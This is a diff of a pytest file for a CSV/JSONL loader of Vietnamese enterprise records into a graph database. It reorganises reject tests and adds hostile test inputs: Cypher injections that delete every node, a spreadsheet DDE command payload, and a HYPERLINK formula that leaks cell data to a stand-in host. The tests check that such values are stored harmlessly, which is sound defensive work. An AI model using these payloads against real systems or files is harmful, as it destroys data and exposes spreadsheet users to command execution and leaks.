@@ -1,8 +1,11 @@
-"""Bad input: a clear reject or error, and nothing already stored changes."""
+"""Bad input: a clear reject or error, and nothing already stored changes.
+
+Damaged files (broken quoting, encodings, control characters, huge fields, empty or
+non-CSV files, bad JSONL) are in the table of test_corpus.py; here, rules of single fields.
+"""
 
 from __future__ import annotations
 
-import json
 import os
 import subprocess
 import sys
@@ -35,31 +38,9 @@ def _only_rejects(loaded, write_feed, tmp_path, files, expected_field, expected_
     return found
 
 
-def test_broken_quoting(loaded, write_feed, tmp_path):
-    text = HEADER + '0101234567,"Công ty "A" TNHH,,,,,,,,\n'
-    found = _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": text}, "", "quoting")
-    assert found[0]["line"] == "2"
-
-
 def test_byte_order_mark_is_accepted(store, write_feed, tmp_path):
     report = load(store, write_feed({"enterprises.csv": "\ufeff" + ENTERPRISES}), tmp_path)
     assert report.rejected == 0 and count(store, "Enterprise") == 2
-
-
-@pytest.mark.parametrize("codec", ["cp1258", "latin-1"])
-def test_bytes_that_are_not_utf8(loaded, write_feed, tmp_path, codec):
-    name = "Công ty Đông Á" if codec == "cp1258" else "Société Générale"
-    data = (HEADER + "0101234567,").encode() + name.encode(codec) + b",,,,,,,,\n"
-    _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": data}, "name", "not UTF-8")
-
-
-def test_missing_required_column_is_an_error_and_writes_nothing(loaded, write_feed, tmp_path):
-    store, _ = loaded
-    before = graph_digest(store)
-    feed = write_feed({"enterprises.csv": "name,address\nA,B\n", "declarations.csv": "declaration_no\n1\n"}, name="bad")
-    with pytest.raises(FeedError, match=r"enterprises.csv: line 1: required column tax_code is missing"):
-        load(store, feed, tmp_path)
-    assert graph_digest(store) == before
 
 
 @pytest.mark.parametrize(
@@ -72,7 +53,8 @@ def test_missing_required_column_is_an_error_and_writes_nothing(loaded, write_fe
         ("0101234567,A,,,,,0071000123456,,,", "bank_accounts", "BANKCODE:ACCOUNTNO"),
         ("0101234567,A,,,,,,,,importer;smuggler", "activities", "not one of"),
         (",A,,,,,,,,", "tax_code", "required"),
-        ("0101234567,A,,,1,2", "", "cells"),
+        ("0101234567,A,,,1,2", "bank_accounts", "6 cells but the header has 10: nothing from bank_accounts on"),
+        ("0101234567,A,,,,,,,,,extra", "", "11 cells but the header has 10"),
     ],
 )
 def test_wrong_types_are_rejected_with_field_and_reason(loaded, write_feed, tmp_path, row, field, reason):
@@ -96,14 +78,6 @@ def test_wrong_numbers_in_declarations(loaded, write_feed, tmp_path):
     assert count(store, "Declaration") == 0 and domain_digest(store) == before
 
 
-def test_conflicting_duplicate_keys_in_one_feed(store, write_feed, tmp_path):
-    text = HEADER + "0101234567,Công ty A,,,,,,,active,\n0101234567,Công ty B,,,,,,,active,\n"
-    report = load(store, write_feed({"enterprises.csv": text}), tmp_path)
-    found = rejects(report)
-    assert len(found) == 1 and found[0]["line"] == "3" and "line 2" in found[0]["reason"]
-    assert count(store, "Enterprise") == 1
-
-
 def test_conflicting_duplicates_across_batches(store, write_feed, tmp_path):
     rows = [f"01012345{n:02d},Công ty {n},,,,,,,," for n in range(10)] + ["0101234503,Another name,,,,,,,,"]
     report = load(store, write_feed({"enterprises.csv": HEADER + "\n".join(rows) + "\n"}), tmp_path, batch_size=2)
@@ -111,17 +85,8 @@ def test_conflicting_duplicates_across_batches(store, write_feed, tmp_path):
     assert len(found) == 1 and found[0]["line"] == "12" and "line 5" in found[0]["reason"]
 
 
-@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b"])
-def test_control_characters(loaded, write_feed, tmp_path, char):
-    _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": HEADER + f"0101234567,Công{char}ty,,,,,,,,\n"}, "name", "control character")
-
-
-def test_megabyte_fields(loaded, write_feed, tmp_path):
-    found = _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": HEADER + "0101234567," + "x" * 1_048_576 + ",,,,,,,,\n"}, "name", "65,536")
-    assert len(found[0]["raw"]) < 5000  # the reject file keeps a cut of the row, not the megabyte
-
-
-@pytest.mark.parametrize("hostile", ["}) DETACH DELETE n //", "'); MATCH (n) DETACH DELETE n; //", 'a"b\\"c\\\\', "$rows `x` {y: 1}"])
+@pytest.mark.parametrize("hostile", ["}) DETACH DELETE n //", "'); MATCH (n) DETACH DELETE n; //", 'a"b\\"c\\\\', "$rows `x` {y: 1}",
+                                     "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"xem")', "Đ" * 65_536])
 def test_hostile_strings_are_stored_verbatim_and_harm_nothing(loaded, write_feed, tmp_path, hostile):
     store, _ = loaded
     escaped = hostile.replace('"', '""')
@@ -131,54 +96,6 @@ def test_hostile_strings_are_stored_verbatim_and_harm_nothing(loaded, write_feed
     from tests.ingest.test_pipeline import _props
 
     assert _props(store, "Enterprise", "tax_code", "0101234567")["name"] == hostile
-
-
-def test_a_feed_of_empty_files_is_refused_and_records_no_run(store, write_feed, tmp_path):
-    feed = write_feed({"enterprises.csv": "", "persons.csv": "person_id,full_name\n", "intel.jsonl": "\n"})
-    with pytest.raises(FeedError, match=r"enterprises.csv, persons.csv, intel.jsonl hold no rows: nothing to load"):
-        load(store, feed, tmp_path)
-    assert store.query("run_find", {"checksum": ""}) == [] and count(store, "Run") == 0
-
-
-def test_an_empty_file_beside_others_is_a_warning(store, write_feed, tmp_path):
-    report = load(store, write_feed({"enterprises.csv": ENTERPRISES, "intel.jsonl": ""}), tmp_path)
-    assert report.rejected == 0 and count(store, "Enterprise") == 2
-    assert "empty" in (report.out_dir / "warnings.csv").read_text()
-
-
-def test_a_directory_without_contract_files_is_refused(store, write_feed, tmp_path):
-    feed = write_feed({"readme.txt": "declarations are in the other folder"})
-    with pytest.raises(FeedError, match=r"no contract files found \(expected any of enterprises.csv, .*; found only readme.txt"):
-        load(store, feed, tmp_path)
-    (tmp_path / "nothing").mkdir()
-    with pytest.raises(FeedError, match="no contract files found"):
-        load(store, tmp_path / "nothing", tmp_path)
-
-
-@pytest.mark.parametrize("codec", ["cp1258", "latin-1"])
-def test_a_file_in_a_legacy_encoding_is_refused_once_with_what_to_do(loaded, write_feed, tmp_path, codec):
-    """Every row in Windows-1258 or Latin-1: one error naming the file, not a reject per row."""
-    store, before = loaded
-    name = "Công ty Đông Á" if codec == "cp1258" else "Société Générale"
-    data = HEADER.encode() + b"".join(f"01012345{k:02d},".encode() + name.encode(codec) + b",,,,,,,,\n" for k in range(30))
-    with pytest.raises(FeedError, match=r"enterprises.csv: not UTF-8 \(30 of its first 31 lines, from line 2\): save it as UTF-8"):
-        load(store, write_feed({"enterprises.csv": data}, name="legacy"), tmp_path)
-    assert domain_digest(store) == before
-
-
-def test_bad_jsonl_lines(loaded, write_feed, tmp_path):
-    lines = [
-        "{not json",
-        "[1, 2]",
-        json.dumps({"tax_code": "0101234567", "name": True}),
-        json.dumps({"tax_code": "0101234567", "name": {"nested": 1}}),
-        json.dumps({"tax_code": "0101234568", "name": "OK", "registered_on": 2025}),
-    ]
-    store, before = loaded
-    report = load(store, write_feed({"enterprises.jsonl": "\n".join(lines) + "\n"}, name="bad"), tmp_path)
-    reasons = [(r["line"], r["field"]) for r in rejects(report)]
-    assert reasons == [("1", ""), ("2", ""), ("3", "name"), ("4", "name"), ("5", "registered_on")]
-    assert domain_digest(store) == before
 
 
 def test_strict_fails_on_any_reject_and_writes_nothing(loaded, write_feed, tmp_path):
@@ -243,10 +160,3 @@ def test_rejected_rows_are_readable_by_their_owner_alone(store, write_feed, tmp_
         assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
     for directory in (report.out_dir, report.out_dir.parent, report.out_dir.parent.parent):
         assert stat.S_IMODE(directory.stat().st_mode) == 0o700, directory
-
-
-@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f"])
-def test_bidirectional_controls_in_a_name_are_rejected(loaded, write_feed, tmp_path, control):
-    """U+202E would show "Công ty ABC\u202etxt.exe" as something else in a table or the workbench."""
-    row = f"0101234567,Công ty ABC{control}gpj.exe,,,,,,,,"
-    _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": HEADER + row + "\n"}, "name", "bidirectional control")
